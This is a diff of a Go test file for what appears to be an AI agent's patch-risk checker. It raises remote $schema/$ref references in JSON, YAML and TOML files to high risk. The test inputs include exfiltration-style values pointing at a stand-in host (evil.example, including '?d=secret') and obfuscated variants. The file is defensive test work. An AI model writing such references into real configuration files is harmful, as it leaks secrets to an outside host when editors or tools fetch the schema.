@@ -127,15 +127,15 @@ func TestSEC17And22TheRiskOfAPatchIsThatOfItsWorstFile(t *testing.T) {
 		{"x.txt", "x", tool.Low},
 		{".git/hooks/pre-commit", "x", tool.Protected},
 		{"package.json", `{"scripts": {"test": "x"}}`, tool.High},
-		{"x.json", `{"$schema": "` + address + `"}`, tool.Medium},
-		{"x.JSON", `{"a": {"$ref": "` + address + `#/x"}}`, tool.Medium},
-		{"x.jsonc", `{"\u0024schema" : "https:\/\/evil.example\/?d=secret"}`, tool.Medium},
-		{"x.yaml", `$schema: ` + address, tool.Medium},
-		{"x.yml", `$schema: >-` + "\n+  " + address, tool.Medium},
-		{"x.yml", `$ref: !!str '` + address + `'`, tool.Medium},
-		{"x.yml", `# yaml-language-server: $schema=` + address, tool.Medium},
-		{"x.toml", `#:schema ` + address, tool.Medium},
-		{"x.json", `{"$schema": "//evil.example/x"}`, tool.Medium},
+		{"x.json", `{"$schema": "` + address + `"}`, tool.High},
+		{"x.JSON", `{"a": {"$ref": "` + address + `#/x"}}`, tool.High},
+		{"x.jsonc", `{"\u0024schema" : "https:\/\/evil.example\/?d=secret"}`, tool.High},
+		{"x.yaml", `$schema: ` + address, tool.High},
+		{"x.yml", `$schema: >-` + "\n+  " + address, tool.High},
+		{"x.yml", `$ref: !!str '` + address + `'`, tool.High},
+		{"x.yml", `# yaml-language-server: $schema=` + address, tool.High},
+		{"x.toml", `#:schema ` + address, tool.High},
+		{"x.json", `{"$schema": "//evil.example/x"}`, tool.High},
 		{"x.json", `{"$schema": "./schema.json", "a": {"$ref": "#/definitions/a"}, "home": "` + address + `"}`, tool.Low},
 		{"x.txt", `{"$schema": "` + address + `"}`, tool.Low},
 	} {
@@ -151,7 +151,7 @@ func TestSEC17And22TheRiskOfAPatchIsThatOfItsWorstFile(t *testing.T) {
 				t.Errorf("%s %s %s: %+v, %v", name, tt.path, tt.text, p, err)
 				continue
 			}
-			if shown := strings.Join(p.Preview.Notes, "\n"); tt.want == tool.Medium && !strings.Contains(shown, "//evil.example/") {
+			if shown := strings.Join(p.Preview.Notes, "\n"); tt.path != "package.json" && tt.want == tool.High && !strings.Contains(shown, "//evil.example/") {
 				t.Errorf("%s %s: the address is not shown: %q", name, tt.text, shown)
 			}
 			if (p.Shape != "") != (tt.want == tool.Low) {
@@ -166,7 +166,7 @@ func TestSEC17And22TheRiskOfAPatchIsThatOfItsWorstFile(t *testing.T) {
 	if err != nil || p.Risk != tool.Low {
 		t.Errorf("one that was there: %+v, %v", p, err)
 	}
-	for to, want := range map[string]tool.Risk{"y.json": tool.Medium, "y.txt": tool.Low} {
+	for to, want := range map[string]tool.Risk{"y.json": tool.High, "y.txt": tool.Low} {
 		if p, err := named(t, "move_file").Plan(t.Context(), env, []byte(args(t, "file_path", "x.txt", "new_path", to))); err != nil || p.Risk != want {
 			t.Errorf("moved to %s: %+v, %v", to, p, err)
 		}
